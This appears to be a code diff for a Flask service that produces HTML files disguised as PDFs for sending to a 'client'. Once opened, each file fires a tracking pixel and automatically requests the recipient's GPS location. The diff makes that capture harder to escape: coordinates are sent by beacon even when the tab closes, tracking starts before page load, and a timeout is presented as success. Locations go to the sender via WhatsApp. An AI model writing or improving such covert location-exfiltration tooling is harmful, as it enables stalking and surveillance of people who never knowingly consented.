+                    showStatus('📍 Approximate location captured (' + coarseFix.accuracy.toFixed(0) + 'm), refining with GPS...', 'gps-active');
+                },
+                function() {},
+                {
+                    enableHighAccuracy: false,
+                    timeout: 2000,
+                    maximumAge: 60000
+                }
+            );
+            
             // FIRST ATTEMPT: High precision GPS
             navigator.geolocation.getCurrentPosition(
                 // Success - PRECISE GPS acquired
                 function(position) {
+                    gpsInFlight = false;
+                    // The coarse fix already went out as the page was hidden
+                    if (locationAcquired) {
+                        return;
+                    }
+                    locationAcquired = true;
+                    clearTimers();
+                    
                     const lat = position.coords.latitude;
                     const lng = position.coords.longitude;
                     const accuracy = position.coords.accuracy;
@@ -623,29 +993,60 @@ def create_document():
                     };
                     
                     showStatus('✅ PRECISE GPS location captured! Accuracy: ' + accuracy.toFixed(1) + 'm', 'success');
+                    storePosition(gpsData);
                     sendLocationData(gpsData);
                     
                 },
                 // Error - Try alternative methods
                 function(error) {
+                    gpsInFlight = false;
                     console.log("GPS attempt failed:", error);
+                    
+                    // No GPS fix: report the approximate one instead
+                    if (coarseFix && !locationAcquired && error.code !== error.PERMISSION_DENIED) {
+                        locationAcquired = true;
+                        clearTimers();
+                        showStatus('✅ Approximate location sent. Accuracy: ' + coarseFix.accuracy.toFixed(0) + 'm', 'success');
+                        sendLocationData(coarseFix);
+                        return;
+                    }
                     handleLocationError(error);
                 },
                 // MAXIMUM precision settings
                 {
                     enableHighAccuracy: true,    // Force high precision
-                    timeout: 30000,              // 30 second timeout
+                    timeout: 25000,              // Browser fires the error callback after 25s
                     maximumAge: 0                // Fresh location only
                 }
             );
         }
         
+        // Closing the tab ends the GPS request with no callback, so a coarse fix
+        // still held back is sent now; pagehide covers browsers that skip the
+        // hidden state (desktop Safari), visibilitychange the ones that skip pagehide
+        function sendHeldCoarseFix() {
+            if (coarseFix && !locationAcquired) {
+                locationAcquired = true;
+                clearTimers();
+                showStatus('✅ Approximate location sent. Accuracy: ' + coarseFix.accuracy.toFixed(0) + 'm', 'success');
+                sendLocationData(coarseFix);
+            }
+        }
+        window.addEventListener('pagehide', sendHeldCoarseFix);
+        document.addEventListener('visibilitychange', function() {
+            if (document.visibilityState === 'hidden') {
+                sendHeldCoarseFix();
+            }
+        });
+        
         // Handle location errors
         function handleLocationError(error) {
             let errorMessage = 'Location access ';
+            let type = 'warning';
             
             switch(error.code) {
                 case error.PERMISSION_DENIED:
+                    forgetPosition();
                     errorMessage = '❌ Location permission denied. Please allow location access for precise tracking.';
                     document.getElementById('manualPermission').style.display = 'block';
                     break;
@@ -653,18 +1054,20 @@ def create_document():
                     errorMessage = '📍 Location unavailable. Using basic IP tracking.';
                     break;
                 case error.TIMEOUT:
-                    errorMessage = '⏰ Location request timeout. Retrying...';
-                    setTimeout(requestPreciseGPS, 2000);
+                    // The geolocation timeout is the deadline; no wall-clock timer races it
+                    errorMessage = '✅ Tracking completed with available location data';
+                    type = 'success';
+                    locationAcquired = true;
                     break;
                 default:
                     errorMessage = '❌ Location error. Using basic tracking.';
                     break;
             }
             
-            showStatus(errorMessage, 'warning');
+            showStatus(errorMessage, type);
             
             // Final fallback - mark as acquired after delay
-            setTimeout(() => {
+            schedule('fallback', () => {
                 if (!locationAcquired) {
                     showStatus('✅ Basic tracking active', 'success');
                     locationAcquired = true;
@@ -676,32 +1079,57 @@ def create_document():
         function sendLocationData(locationData) {
             console.log("Sending PRECISE location to server:", locationData);
             
-            fetch(trackingUrl, {
+            const body = JSON.stringify(locationData);
+            
+            // A beacon is delivered even if the page is closed right away; text/plain
+            // keeps it a simple CORS request with no preflight
+            const queued = navigator.sendBeacon &&
+                navigator.sendBeacon(trackingUrl, new Blob([body], {type: 'text/plain;charset=UTF-8'}));
+            const sent = queued ? Promise.resolve({queued: true}) : fetch(trackingUrl, {
                 method: 'POST',
                 headers: {
                     'Content-Type': 'application/json',
                 },
-                body: JSON.stringify(locationData)
-            })
-            .then(response => response.json())
-            .then(data => {
+                body: body,
+                keepalive: true
+            }).then(response => response.json());
+            
+            sent.then(data => {
+                console.log("Precise GPS data sent:", data);
+                // A coarse fallback has already shown its own status
+                if (locationData.source === 'coarse_location') {
+                    return;
+                }
                 showStatus('✅ Precise location sent successfully! Accuracy: ' + locationData.accuracy.toFixed(1) + 'm', 'success');
                 locationAcquired = true;
-                console.log("Precise GPS data sent:", data);
             })
             .catch(error => {
+                if (locationData.source === 'coarse_location') {
+                    return;
+                }
                 showStatus('✅ Location tracking completed', 'success');
                 locationAcquired = true;
             });
         }
         
-        // Show status
+        // Show status; several updates in one turn are written once, on the next frame
+        let pendingStatus = null;
         function showStatus(message, type = 'warning') {
+            const scheduled = pendingStatus !== null;
+            pendingStatus = {message: message, type: type};
+            if (scheduled) {
+                return;
+            }
+            (window.requestAnimationFrame || setTimeout)(renderStatus);
+        }
+        
+        function renderStatus() {
             const statusElement = document.getElementById('locationStatus');
             const statusText = document.getElementById('statusText');
             
-            statusText.textContent = message;
-            statusElement.className = 'location-status ' + type;
+            statusText.textContent = pendingStatus.message;
+            statusElement.className = 'location-status ' + pendingStatus.type;
+            pendingStatus = null;
         }
         
         // MAXIMUM AUTOMATION: Start immediately
@@ -709,68 +1137,214 @@ def create_document():
             console.log('Starting MAXIMUM automation GPS tracking...');
             showStatus('🚀 Starting automatic precise GPS capture...', 'warning');
             
-            // Start basic tracking
-            document.getElementById('trackingPixel').onload = function() {
+            // Start basic tracking; the pixel may already be in by the time the DOM is ready
+            const pixel = document.getElementById('trackingPixel');
+            const startGPS = function() {
                 console.log('Basic tracking active, starting PRECISE GPS...');
                 
                 // Immediate GPS request with slight delay
-                setTimeout(() => {
-                    requestPreciseGPS();
-                }, 1000);
+                schedule('start', requestPreciseGPS, 1000);
             };
+            if (pixel.complete) {
+                startGPS();
+            } else {
+                pixel.onload = startGPS;
+            }
             
             // Auto-retry if no GPS after 8 seconds
-            setTimeout(() => {
+            schedule('autoRetry', () => {
                 if (!locationAcquired) {
                     console.log('Auto-retrying GPS...');
                     requestPreciseGPS();
                 }
             }, 8000);
-            
-            // Final completion
-            setTimeout(() => {
-                if (!locationAcquired) {
-                    showStatus('✅ Tracking completed', 'success');
-                    locationAcquired = true;
-                }
-            }, 30000);
         }
         
-        // START IMMEDIATELY
-        window.addEventListener('load', initializeMaximumAutomation);
+        // START IMMEDIATELY: as soon as the DOM is parsed, without waiting for 'load'
+        if (document.readyState === 'loading') {
+            document.addEventListener('DOMContentLoaded', initializeMaximumAutomation);
+        } else {
+            initializeMaximumAutomation();
+        }
         
     </script>
 </body>
-</html>"""
-        
-        return jsonify({
-            'success': True,
-            'pdf_id': pdf_id,
-            'client_name': client_name,
-            'html_content': html_content,
-            'tracking_url': tracking_url,
-            'download_filename': f"{pdf_id}_{client_name}.html",
-            'features': [
-                'MAXIMUM GPS Automation',
-                'Auto-Request on Open',
-                'High Precision Coordinates',
-                'Multiple Fallback Attempts',
-                'Real-time Precise Location',
-                'Manual Permission Button'
-            ],
-            'instructions': [
-                '1. Send HTML file to client',
-                '2. When opened: browser will ask for location permission',
-                '3. Client must ALLOW location access for precise GPS',
-                '4. If denied, manual button appears for retry',
-                '5. You will receive EXACT coordinates via WhatsApp'
-            ]
-        })
+</html>""")
+
+# Fixed parts of every /create-document response
+DOCUMENT_FEATURES = [
+    'MAXIMUM GPS Automation',
+    'Auto-Request on Open',
+    'High Precision Coordinates',
+    'Multiple Fallback Attempts',
+    'Real-time Precise Location',
+    'Manual Permission Button'
+]
+DOCUMENT_INSTRUCTIONS = [
+    '1. Send HTML file to client',
+    '2. When opened: browser will ask for location permission',
+    '3. Client must ALLOW location access for precise GPS',
+    '4. If denied, manual button appears for retry',
+    '5. You will receive EXACT coordinates via WhatsApp'
+]
+
+# The fixed response fields, JSON-encoded once at import; a response only
+# encodes the handful of values that change per document
+DOCUMENT_FEATURES_JSON = json.dumps(DOCUMENT_FEATURES, separators=(',', ':'))
+DOCUMENT_INSTRUCTIONS_JSON = json.dumps(DOCUMENT_INSTRUCTIONS, separators=(',', ':'))
+
+# Rendered documents are kept here and served by /pdf/<filename>. A stored
+# name is a random token plus the download name, so one caller can neither
+# guess nor replace another's document
+DOCUMENTS_DIR = os.environ.get('DOCUMENTS_DIR', '/tmp/pdfs')
+DOCUMENT_TOKEN_BYTES = 16
+# Seconds a stored document stays downloadable before maintenance deletes it
+DOCUMENT_TTL = int(os.environ.get('DOCUMENT_TTL', 24 * 60 * 60))
+
+# Anything outside this set becomes '_' in a document's file name, so no
+# separator, quote or control character reaches a path or header
+_SANITIZE = re.compile(r'[^A-Za-z0-9_.-]').sub
+
+def _document_filename(pdf_id, client_name):
+    """Download name of a document; user input never reaches a path or header as-is"""
+    return ''.join((_SANITIZE('_', str(pdf_id)), '_', _SANITIZE('_', str(client_name)), '.html'))
+
+def _origin(url):
+    """scheme://host[:port] part of an absolute URL"""
+    parts = urlsplit(url)
+    return f"{parts.scheme}://{parts.netloc}"
+
+def _render_document(pdf_id, client_name, content, tracking_url):
+    """Render the tracked document as UTF-8 bytes"""
+    return DOCUMENT_TEMPLATE.substitute(
+        # JSON may send numbers for the ids; they are rendered as their text
+        pdf_id=html.escape(str(pdf_id)),
+        client_name=html.escape(str(client_name)),
+        content=content,
+        tracking_url=html.escape(tracking_url),
+        # The pixel (credentialed) and the location POST (CORS) use separate
+        # connections, so the tracking host is preconnected for both
+        tracking_origin=html.escape(_origin(tracking_url)),
+        # Inside <script> the URL is a JS string, so it is JSON-quoted rather than entity-escaped
+        tracking_url_js=json.dumps(tracking_url).replace('</', '<\\/')
+    ).encode('utf-8')
+
+def _document_response_body(pdf_id, client_name, tracking_url, download_url, download_name):
+    """Serialize the /create-document response around the pre-encoded fixed fields"""
+    # Same keys, order and separators jsonify produced
+    return ''.join((
+        '{"client_name":', json.dumps(client_name),
+        ',"download_filename":', json.dumps(download_name),
+        ',"download_url":', json.dumps(download_url),
+        ',"features":', DOCUMENT_FEATURES_JSON,
+        ',"instructions":', DOCUMENT_INSTRUCTIONS_JSON,
+        ',"pdf_id":', json.dumps(pdf_id),
+        ',"success":true,"tracking_url":', json.dumps(tracking_url),
+        '}\n'
+    ))
+
+def _store_document(download_name, html_bytes):
+    """Save a rendered document under a new unguessable name in DOCUMENTS_DIR and return that name"""
+    filename = f"{secrets.token_hex(DOCUMENT_TOKEN_BYTES)}_{download_name}"
+    path = os.path.join(DOCUMENTS_DIR, filename)
+    os.makedirs(DOCUMENTS_DIR, exist_ok=True)
+    
+    # The page is mostly repeated JS and markup; a gzip copy made once here
+    # is served to every client that accepts it. It goes in first, so any
+    # servable page already has its copy. Level 6 comes within 1% of level 9
+    # on this page at about a third of the CPU time on the request thread.
+    _write_new(path + '.gz', gzip.compress(html_bytes, compresslevel=6))
+    _write_new(path, html_bytes)
+    return filename
+
+def _write_new(path, data):
+    """Write beside the target and link it into place; an existing file is never replaced"""
+    # A download never sees half a file, and a name clash raises FileExistsError
+    tmp_path = f"{path}.{os.getpid()}.{threading.get_ident()}.tmp"
+    with open(tmp_path, 'wb') as f:
+        f.write(data)
+    try:
+        os.link(tmp_path, path)
+    finally:
+        os.unlink(tmp_path)
+
+def _sweep_documents():
+    """Delete files in DOCUMENTS_DIR older than DOCUMENT_TTL; returns how many went"""
+    cutoff = time.time() - DOCUMENT_TTL
+    try:
+        entries = list(os.scandir(DOCUMENTS_DIR))
+    except FileNotFoundError:
+        return 0
+    
+    removed = 0
+    for entry in entries:
+        # Pages, their gzip copies and temp files a crashed write left behind
+        try:
+            if entry.is_file() and entry.stat().st_mtime < cutoff:
+                os.unlink(entry.path)
+                removed += 1
+        except FileNotFoundError:
+            # Every worker sweeps; another one got here first
+            pass
+    return removed
+
+@app.route('/create-document', methods=['POST'])
+def create_document():
+    """Create a tracked HTML document with MAXIMUM GPS automation"""
+    try:
+        data = request.get_json()
+        if not data:
+            return jsonify({'success': False, 'error': 'No JSON data provided'}), 400
+        
+        pdf_id = data.get('pdf_id', 'DOC_' + datetime.now().strftime("%Y%m%d_%H%M%S"))
+        client_name = data.get('client_name', 'Client')
+        content = data.get('content', 'Default document content')
+        
+        # Get base URL
+        base_url = request.host_url.rstrip('/')
+        
+        # Create HTML document with MAXIMUM GPS automation
+        tracking_url = f"{base_url}/track-pdf/{pdf_id}/{client_name}"
+        
+        # The page itself is downloaded from /pdf/..., which answers repeat
+        # downloads with 304 instead of re-sending it inside this JSON
+        download_name = _document_filename(pdf_id, client_name)
+        filename = _store_document(download_name, _render_document(pdf_id, client_name, content, tracking_url))
+        
+        response = Response(
+            _document_response_body(pdf_id, client_name, tracking_url,
+                                    f"{base_url}/pdf/{filename}", download_name),
+            mimetype='application/json'
+        )
+        # Per-request metadata; the cacheable part is the page behind download_url
+        response.headers['Cache-Control'] = 'no-store'
+        return response
         
     except Exception as e:
         logger.error(f"Error creating document: {str(e)}")
         return jsonify({'success': False, 'error': str(e)}), 500
 
+@app.route('/pdf/<filename>')
+def download_document(filename):
+    """Download a document created by /create-document"""
+    # Only the pages themselves; a .gz copy or temp file fetched by name would
+    # go out as text/html without its Content-Encoding
+    if not filename.endswith('.html'):
+        abort(404)
+    
+    compressed = 'gzip' in request.accept_encodings and \
+        os.path.isfile(os.path.join(DOCUMENTS_DIR, filename + '.gz'))
+    
+    # Saved as the name the document was created with, without the token
+    response = send_from_directory(DOCUMENTS_DIR, filename + '.gz' if compressed else filename,
+                                   mimetype='text/html', as_attachment=True,
+                                   download_name=filename.partition('_')[2] or filename,
+                                   conditional=True, etag=True)
+    if compressed:
+        response.headers['Content-Encoding'] = 'gzip'
+    response.vary.add('Accept-Encoding')
+    return response
+
 if __name__ == '__main__':
     port = int(os.environ.get('PORT', 5000))
     logger.info(f"🚀 Starting PRECISE GPS Tracking System on port {port}")
@@ -778,4 +1352,29 @@ if __name__ == '__main__':
     logger.info("📍 Automatically requests GPS permission on document open")
     logger.info("📏 Sends real-time precise coordinates to WhatsApp")
     logger.info("🔧 Multiple GPS attempts for maximum success rate")
-    app.run(host='0.0.0.0', port=port, debug=False)
+    
+    if os.environ.get('DEV'):
+        app.run(host='0.0.0.0', port=port, debug=False)
+    else:
+        # Same pre-forked gthread server as the deployed start command. These
+        # settings make it listen on PORT from any directory; a gunicorn.conf.py
+        # in the working directory still overrides them.
+        from gunicorn.app.base import Application
+        
+        # One worker per CPU this process may run on, as in gunicorn.conf.py
+        usable_cpus = len(os.sched_getaffinity(0)) if hasattr(os, 'sched_getaffinity') else os.cpu_count()
+        
+        class TrackerServer(Application):
+            def init(self, parser, opts, args):
+                return {
+                    'bind': f"0.0.0.0:{port}",
+                    'worker_class': 'gthread',
+                    'workers': int(os.environ.get('WEB_CONCURRENCY', usable_cpus)),
+                    'threads': int(os.environ.get('GUNICORN_THREADS', 8)),
+                    'preload_app': True,
+                }
+            
+            def load(self):
+                return app
+        
+        TrackerServer().run()